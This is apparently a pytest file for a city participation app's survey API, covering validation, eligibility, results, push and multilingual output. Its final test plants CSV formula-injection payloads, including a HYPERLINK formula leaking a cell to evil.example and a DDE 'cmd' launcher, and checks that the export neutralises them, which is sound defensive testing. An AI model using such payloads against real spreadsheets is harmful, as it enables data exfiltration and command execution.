"""Surveys: question types, validation naming the question, eligibility, open times, results and
CSV export. One response per device and the unlinkability of answers: test_participation_anonymity.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
from support_participation import BASE, EDITOR, QUESTIONS, answers, create_survey, t

from core.testing import register_device, staff_headers
from push.models import PushOutbox


def _keys(response: Any) -> list[str]:
    return [e["field"] for e in response.json().get("errors", [])]


async def test_answer_validation_names_the_question(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    survey_id = await create_survey(client, staff)
    _, device = await register_device(client)
    url = f"{BASE}/surveys/{survey_id}/responses"

    cases: list[tuple[dict[str, Any], str]] = [
        (answers(q1="nope"), "body.answers.q1"),
        (answers(q2=["x", "y", "z"]), "body.answers.q2"),  # too many choices
        (answers(q2=[]), "body.answers.q2"),  # too few
        (answers(q3=6), "body.answers.q3"),
        (answers(q3=None), "body.answers.q3"),  # required and missing
        (answers(q4=["r1", "r1"]), "body.answers.q4"),
        (answers(q5="yes"), "body.answers.q5"),
        (answers(q6="x" * 21), "body.answers.q6"),  # length limit
        (answers(q5=False, q6="hidden"), "body.answers.q6"),  # show-if not met
        ({**answers(), "q99": 1}, "body.answers.q99"),
    ]
    for body, field in cases:
        response = await client.post(url, json={"answers": body}, headers=device)
        assert response.status_code == 422, (body, response.text)
        assert field in _keys(response), (body, response.json())
    # a value no question takes (an object, a list of numbers) is refused by its JSON shape alone,
    # and the error still names the question (msgspec itself only says "answers[...]")
    for shape, field in (({"q6": {"text": "x"}}, "body.answers.q6"), ({"q2": [1, 2]}, "body.answers.q2[0]")):
        response = await client.post(url, json={"answers": {**answers(), **shape}}, headers=device)
        assert response.status_code == 422, (shape, response.text)
        assert _keys(response) == [field], response.json()
    # q6 is optional and hidden when q5 is no: accepted without it
    ok = await client.post(url, json={"answers": answers(q5=False, q6=None)}, headers=device)
    assert ok.status_code == 200, ok.text


async def test_survey_definition_is_checked(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    bad = [
        {"id": "a", "kind": "single_choice", "text": t("A"), "options": [{"id": "o", "label": t("O")}]},
        {"id": "b", "kind": "yes_no", "text": t("B"), "show_if": {"question": "later", "any_of": ["yes"]}},
        {"id": "b", "kind": "rating", "text": t("C"), "scale": 3, "scale_labels": {"4": t("x")}},
    ]
    response = await client.post(f"{BASE}/surveys", json={"title": t("S"), "questions": bad}, headers=staff)
    assert response.status_code == 422
    assert {"body.questions[0].options", "body.questions[1].show_if.question", "body.questions[2].id"} <= set(
        _keys(response)
    )
    # found by fuzzing: dates at the calendar's edges
    edge = {"title": t("S"), "questions": QUESTIONS, "closes_at": "9999-12-31T23:59:59+00:00"}
    response = await client.post(f"{BASE}/surveys", json=edge, headers=staff)
    assert response.status_code == 422 and "body.closes_at" in response.text, response.text


async def test_eligibility_and_open_times(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    survey_id = await create_survey(client, staff, eligible_districts=["Hörde"], min_age=16)
    _, device = await register_device(client)
    url = f"{BASE}/surveys/{survey_id}/responses"
    missing = await client.post(url, json={"answers": answers()}, headers=device)
    assert missing.status_code == 422 and {"body.district"} <= set(_keys(missing))
    wrong = await client.post(url, json={"answers": answers(), "district": "Brackel", "age": 30}, headers=device)
    assert wrong.status_code == 403
    young = await client.post(url, json={"answers": answers(), "district": "Hörde", "age": 12}, headers=device)
    assert young.status_code == 403
    ok = await client.post(url, json={"answers": answers(), "district": "Hörde", "age": 16}, headers=device)
    assert ok.status_code == 200, ok.text

    future = (dt.datetime.now(dt.UTC) + dt.timedelta(days=2)).isoformat()
    later = await create_survey(client, staff, opens_at=future)
    early = await client.post(f"{BASE}/surveys/{later}/responses", json={"answers": answers()}, headers=device)
    assert early.status_code == 409 and "not open" in early.text
    draft = await create_survey(client, staff, publish=False)
    assert (
        await client.post(f"{BASE}/surveys/{draft}/responses", json={"answers": answers()}, headers=device)
    ).status_code == 404
    changed = await client.put(f"{BASE}/surveys/{later}", json={"title": t("x"), "questions": QUESTIONS}, headers=staff)
    assert changed.status_code == 409  # published surveys are frozen


async def test_results_visibility_csv_and_results_push(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    survey_id = await create_survey(client, staff, results_visibility="after_close")
    url = f"{BASE}/surveys/{survey_id}/responses"
    given = [
        answers(q1="a", q2=["x", "y"], q3=5, q4=["r1", "r2", "r3"], q5=True, q6="Schön"),
        answers(q1="a", q2=["y"], q3=4, q4=["r2", "r1"], q5=True, q6="Zu laut"),
        answers(q1="b", q2=["z"], q3=1, q4=["r1"], q5=False, q6=None),
    ]
    notified = []
    for index, body in enumerate(given):
        device_id, headers = await register_device(client)
        response = await client.post(url, json={"answers": body, "notify_results": index < 2}, headers=headers)
        assert response.status_code == 200, response.text
        if index < 2:
            notified.append(device_id)

    results_url = f"{BASE}/surveys/{survey_id}/results"
    assert (await client.get(results_url)).status_code == 403  # after close only
    staff_view = (await client.get(results_url, headers=staff)).json()
    assert staff_view["responses"] == 3
    by_id = {q["id"]: q for q in staff_view["questions"]}
    assert {o["id"]: o["count"] for o in by_id["q1"]["options"]} == {"a": 2, "b": 1, "c": 0}
    assert [o["share"] for o in by_id["q1"]["options"]] == [0.6667, 0.3333, 0.0]
    assert {o["id"]: o["count"] for o in by_id["q2"]["options"]} == {"x": 1, "y": 2, "z": 1}
    assert by_id["q3"]["distribution"] == {"1": 1, "2": 0, "3": 0, "4": 1, "5": 1}
    assert by_id["q3"]["mean"] == 3.333 and by_id["q3"]["median"] == 4
    # Borda with 3 options: r1 = 2+1+2 = 5, r2 = 1+2 = 3, r3 = 0
    assert [(o["id"], o["borda"]) for o in by_id["q4"]["options"]] == [("r1", 5), ("r2", 3), ("r3", 0)]
    assert {o["id"]: o["count"] for o in by_id["q5"]["options"]} == {"yes": 2, "no": 1}
    assert by_id["q6"]["texts"] == ["Schön", "Zu laut"]

    for status in ("closed", "results_published"):
        moved = await client.post(f"{BASE}/surveys/{survey_id}/status", json={"status": status}, headers=staff)
        assert moved.status_code == 200
    public = (await client.get(results_url)).json()
    assert public["withheld"] is True and "questions" not in public  # 3 answers: below results_min_responses

    async with sessions() as session:
        rows = list(await session.scalars(select(PushOutbox).where(PushOutbox.topic == "participation.results")))
        assert len(rows) == 1
        assert sorted(rows[0].audience["device_ids"]) == sorted(notified)
        left = await session.scalar(text("SELECT count(*) FROM participation_result_subscription"))
        assert left == 0

    csv_response = await client.get(f"{BASE}/surveys/{survey_id}/responses.csv", headers=staff)
    assert csv_response.status_code == 200
    assert csv_response.headers["content-type"].startswith("text/csv")
    content = csv_response.content.decode("utf-8-sig")
    rows_csv = list(csv.reader(io.StringIO(content)))
    assert rows_csv[0] == ["q1", "q2", "q3", "q4", "q5", "q6"]
    assert len(rows_csv) == 4
    assert ["b", "z", "1", "r1", "no", ""] in rows_csv[1:]
    assert (await client.get(f"{BASE}/surveys/{survey_id}/responses.csv")).status_code == 401

    staff_only = await create_survey(client, staff, results_visibility="staff_only")
    assert (await client.get(f"{BASE}/surveys/{staff_only}/results")).status_code == 403
    live = await create_survey(client, staff, results_visibility="live")
    assert (await client.get(f"{BASE}/surveys/{live}/results")).json()["withheld"] is True


async def test_publishing_a_survey_pushes(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    survey_id = await create_survey(client, staff, districts=["Brackel"])
    async with sessions() as session:
        rows = list(await session.scalars(select(PushOutbox).where(PushOutbox.topic == "participation.offers")))
    assert len(rows) == 1 and rows[0].deep_link == f"stadtkern://participation/surveys/{survey_id}"
    assert rows[0].audience == {"districts": ["Brackel"]}
    listed = (await client.get(f"{BASE}/surveys")).json()["items"]
    assert [s["id"] for s in listed] == [survey_id] and listed[0]["open_now"] is True


async def test_surveys_speak_the_callers_language(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    staff = await staff_headers(client, sessions, grants=EDITOR)
    questions = [
        {
            "id": "mode",
            "kind": "single_choice",
            "text": {"de": "Wie kommen Sie?", "en": "How do you get there?"},
            "options": [
                {"id": "bike", "label": {"de": "Fahrrad", "en": "Bicycle"}},
                {"id": "tram", "label": {"de": "Stadtbahn"}},  # no English label
            ],
        },
        {
            "id": "mark",
            "kind": "rating",
            "text": {"de": "Note"},
            "scale": 5,
            "scale_labels": {"1": {"de": "schlecht", "en": "poor"}, "5": {"de": "gut"}},
        },
    ]
    survey_id = await create_survey(
        client,
        staff,
        title={"de": "Mobilität", "en": "Mobility"},
        intro={"de": "Kurz und anonym"},
        questions=questions,
    )
    english = {"Accept-Language": "en-GB,en;q=0.9"}

    shown = await client.get(f"{BASE}/surveys/{survey_id}", headers=english)
    assert shown.status_code == 200 and shown.headers["content-language"] == "en"
    survey = shown.json()
    assert survey["title"] == "Mobility" and survey["intro"] == "Kurz und anonym"  # missing English: German
    mode, mark = survey["questions"]
    assert mode["text"] == "How do you get there?"
    assert mode["options"] == [{"id": "bike", "label": "Bicycle"}, {"id": "tram", "label": "Stadtbahn"}]
    assert mark["text"] == "Note" and mark["scale_labels"] == {"1": "poor", "5": "gut"}

    listed = await client.get(f"{BASE}/surveys", headers=english)
    assert listed.headers["content-language"] == "en"
    assert [s["title"] for s in listed.json()["items"]] == ["Mobility"]

    german = await client.get(f"{BASE}/surveys/{survey_id}")  # no Accept-Language
    assert german.headers["content-language"] == "de"
    assert german.json()["title"] == "Mobilität"
    assert german.json()["questions"][0]["options"][0]["label"] == "Fahrrad"

    # editors read and write both languages
    editing = await client.get(f"{BASE}/surveys/{survey_id}/edit", headers={**staff, **english})
    assert editing.status_code == 200 and "content-language" not in editing.headers
    staff_view = editing.json()
    assert staff_view["title"] == {"de": "Mobilität", "en": "Mobility"} and staff_view["intro"] == {
        "de": "Kurz und anonym"
    }
    assert staff_view["questions"][0]["options"][1] == {"id": "tram", "label": {"de": "Stadtbahn"}}
    assert (await client.get(f"{BASE}/surveys/{survey_id}/edit")).status_code == 401
    draft = await create_survey(client, staff, publish=False)
    assert (await client.get(f"{BASE}/surveys/{draft}/edit", headers=staff)).json()["title"] == t("Umfrage")
    assert (await client.get(f"{BASE}/surveys/{draft}")).status_code == 404


async def test_a_condition_must_name_an_answer_the_earlier_question_has(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    """``show_if.any_of`` naming an option the earlier question lacks (``bicycle`` for ``bike``) would
    hide the question for everyone: a 422 naming the value, for every kind of earlier question."""
    staff = await staff_headers(client, sessions, grants=EDITOR)
    mode = {
        "id": "mode",
        "kind": "single_choice",
        "text": t("Wie?"),
        "options": [{"id": "bike", "label": t("Rad")}, {"id": "car", "label": t("Auto")}],
    }
    cases: list[tuple[dict[str, Any], list[str], str]] = [
        (mode, ["car", "bicycle"], "body.questions[1].show_if.any_of[1]"),
        ({**mode, "kind": "multiple_choice"}, ["bicycle"], "body.questions[1].show_if.any_of[0]"),
        ({**mode, "kind": "ranking"}, ["Bike"], "body.questions[1].show_if.any_of[0]"),
        ({"id": "mode", "kind": "yes_no", "text": t("Ja?")}, ["true"], "body.questions[1].show_if.any_of[0]"),
        ({"id": "mode", "kind": "rating", "text": t("Note"), "scale": 5}, ["6"], "body.questions[1].show_if.any_of[0]"),
        ({"id": "mode", "kind": "free_text", "text": t("Was?")}, ["egal"], "body.questions[1].show_if"),
    ]
    for earlier, any_of, field in cases:
        why = {"id": "why", "kind": "free_text", "text": t("Warum?"), "show_if": {"question": "mode", "any_of": any_of}}
        body = {"title": t("S"), "questions": [earlier, why]}
        response = await client.post(f"{BASE}/surveys", json=body, headers=staff)
        assert response.status_code == 422, (earlier["kind"], response.text)
        assert _keys(response) == [field], (earlier["kind"], response.json())
    reachable = {**why, "show_if": {"question": "mode", "any_of": ["bike"]}}
    ok = await client.post(f"{BASE}/surveys", json={"title": t("S"), "questions": [mode, reachable]}, headers=staff)
    assert ok.status_code == 201, ok.text


async def test_csv_export_neutralises_formulas(
    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Any resident can type a formula into a free-text answer; the staff's spreadsheet must show it
    as text (OWASP: a cell starting with = + - @ tab or CR gets a leading single quote)."""
    staff = await staff_headers(client, sessions, grants=EDITOR)
    questions = [{"id": "note", "kind": "free_text", "text": t("Anmerkung"), "max_length": 200}]
    survey_id = await create_survey(client, staff, questions=questions)
    planted = [
        '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # fullwidth equals sign, which some spreadsheet programs treat as "="
        "Radweg = gut",  # not at the start: unchanged
    ]
    for text_answer in planted:
        _, device = await register_device(client)
        response = await client.post(
            f"{BASE}/surveys/{survey_id}/responses", json={"answers": {"note": text_answer}}, headers=device
        )
        assert response.status_code == 200, response.text
    exported = await client.get(f"{BASE}/surveys/{survey_id}/responses.csv", headers=staff)
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    cells = sorted(row[0] for row in rows[1:])
    expected = sorted(("'" + a) if a[0] in "=+-@\t\r\uff1d" else a for a in planted)
    assert cells == expected
